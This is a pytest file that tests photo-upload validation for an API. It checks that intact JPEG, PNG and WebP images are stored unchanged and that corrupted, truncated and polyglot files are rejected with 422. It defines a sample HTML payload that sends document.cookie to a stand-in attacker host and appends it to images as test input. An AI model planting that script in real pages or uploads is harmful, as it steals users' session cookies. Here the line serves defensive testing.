"""A photo is accepted only if it decodes whole and ends where its format says it ends: a
PNG with damaged pixel data, a cut JPEG or WebP, and polyglots (an image with a ZIP or an
HTML page after its end) are refused with 422 naming the body; good photos are stored
byte for byte."""

from __future__ import annotations

import hashlib
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import httpx
import pytest
from PIL import Image, ImageFile

from core.photos import PhotoRejected, inspect_photo
from tests.support.api import token

PROJECT = "th-solar-rooftops"
HTML = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script>"


def noise(mode: str = "RGB", size: tuple[int, int] = (96, 64)) -> Image.Image:
    """Random pixels: compressed data full of every byte value (0xFF included)."""
    rgb = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    return rgb.convert(mode)


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("payload.html", HTML)
    return out.getvalue()


def png_chunks(png: bytes) -> list[tuple[int, bytes]]:
    """(offset, type) of each chunk."""
    found, at = [], 8
    while at < len(png):
        (length,) = struct.unpack(">I", png[at : at + 4])
        found.append((at, png[at + 4 : at + 8]))
        at += 12 + length
    return found


def corrupt_idat(png: bytes, fix_crc: bool) -> bytes:
    """The PNG with bytes in the middle of its IDAT data changed; with ``fix_crc`` the
    chunk's CRC made right again, so that only decoding the pixels tells."""
    at = next(offset for offset, kind in png_chunks(png) if kind == b"IDAT")
    (length,) = struct.unpack(">I", png[at : at + 4])
    data = bytearray(png[at + 8 : at + 8 + length])
    for i in range(length // 2, length // 2 + 16):
        data[i] ^= 0x5A
    crc = png[at + 8 + length : at + 12 + length]
    if fix_crc:
        crc = struct.pack(">I", zlib.crc32(b"IDAT" + bytes(data)))
    return png[: at + 8] + bytes(data) + crc + png[at + 12 + length :]


def good_photos() -> dict[str, tuple[str, bytes]]:
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    return {
        "jpeg": ("image/jpeg", encode(noise(), "JPEG")),
        "jpeg, progressive, EXIF": (
            "image/jpeg",
            encode(noise(), "JPEG", progressive=True, exif=exif.tobytes()),
        ),
        "jpeg, grey": ("image/jpeg", encode(noise("L"), "JPEG", quality=95)),
        "jpeg, restart markers, a comment holding an EOI": (
            "image/jpeg",
            encode(noise(), "JPEG", restart_marker_blocks=2, comment=b"\xff\xd9 <html>"),
        ),
        "jpeg, CMYK": ("image/jpeg", encode(noise("CMYK"), "JPEG")),
        "png": ("image/png", encode(noise(), "PNG")),
        "png, RGBA": ("image/png", encode(noise("RGBA"), "PNG")),
        "png, palette": ("image/png", encode(noise("P"), "PNG")),
        "webp": ("image/webp", encode(noise(), "WEBP")),
        "webp, lossless": ("image/webp", encode(noise(), "WEBP", lossless=True)),
        "webp, alpha": ("image/webp", encode(noise("RGBA"), "WEBP")),
    }


def bad_photos() -> dict[str, tuple[str, bytes]]:
    jpeg, png, webp = encode(noise(), "JPEG"), encode(noise(), "PNG"), encode(noise(), "WEBP")
    return {
        "png, IDAT data changed (CRC fixed)": ("image/png", corrupt_idat(png, fix_crc=True)),
        "png, IDAT data changed": ("image/png", corrupt_idat(png, fix_crc=False)),
        "png, cut": ("image/png", png[: len(png) * 2 // 3]),
        "png, no IEND": ("image/png", png[:-12]),
        "png + html": ("image/png", png + HTML),
        "png + zip": ("image/png", png + a_zip()),
        "png + one byte": ("image/png", png + b"\n"),
        "jpeg, cut": ("image/jpeg", jpeg[: len(jpeg) * 2 // 3]),
        "jpeg, no EOI": ("image/jpeg", jpeg[:-2]),
        "jpeg + zip": ("image/jpeg", jpeg + a_zip()),
        "jpeg + html": ("image/jpeg", jpeg + HTML),
        "jpeg + one byte": ("image/jpeg", jpeg + b"\0"),
        "webp, cut": ("image/webp", webp[: len(webp) * 2 // 3]),
        "webp + junk": ("image/webp", webp + b"junk" * 10),
        "webp + html": ("image/webp", webp + HTML),
        "webp, RIFF size too large": (
            "image/webp",
            webp[:4] + struct.pack("<I", len(webp) + 92) + webp[8:] + b"\0" * 100,
        ),
    }


@pytest.mark.parametrize("name", list(good_photos()))
def test_good_photos_are_accepted(name: str) -> None:
    media_type, content = good_photos()[name]
    info = inspect_photo(content, media_type)
    assert info.sha256 == hashlib.sha256(content).hexdigest()
    assert info.size_bytes == len(content) and (info.width, info.height) == (96, 64)


@pytest.mark.parametrize("name", list(bad_photos()))
def test_damaged_cut_and_polyglot_photos_are_refused(name: str) -> None:
    media_type, content = bad_photos()[name]
    with pytest.raises(PhotoRejected) as refused:
        inspect_photo(content, media_type)
    assert refused.value.field == "body", refused.value


def test_no_photo_is_accepted_if_pillow_is_told_to_load_truncated_images(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    jpeg, png = encode(noise(), "JPEG"), encode(noise(), "PNG")
    for media_type, cut in [("image/jpeg", jpeg[: len(jpeg) // 2]), ("image/png", png[:-30])]:
        with pytest.raises(PhotoRejected):
            inspect_photo(cut, media_type)
    with pytest.raises(RuntimeError, match="LOAD_TRUNCATED_IMAGES"):
        inspect_photo(jpeg, "image/jpeg")


def test_refused_and_accepted_through_the_api(server: tuple[str, Path]) -> None:
    url, home = server
    field = {
        "Authorization": "Bearer "
        + token(home, "--role", "field", "--project", PROJECT, "--label", "somchai.k")
    }
    photos = f"{url}/v1/projects/{PROJECT}/photos"
    with httpx.Client(headers=field) as client:
        for name, (media_type, content) in bad_photos().items():
            answer = client.post(photos, content=content, headers={"Content-Type": media_type})
            assert answer.status_code == 422, (name, answer.text)
            assert answer.json()["field"] == "body", name
            assert answer.json()["error"].startswith("body: "), name
        assert client.get(photos).json() == []  # nothing of them was stored

        for name, (media_type, content) in good_photos().items():
            sha = hashlib.sha256(content).hexdigest()
            up = client.post(photos, content=content, headers={"Content-Type": media_type})
            assert up.status_code == 201, (name, up.text)
            assert up.json()["sha256"] == sha and up.json()["size_bytes"] == len(content)
            back = client.get(f"{photos}/{sha}")
            assert back.content == content, name  # exactly as uploaded
            assert back.headers["content-type"] == media_type
            assert back.headers["x-content-type-options"] == "nosniff"
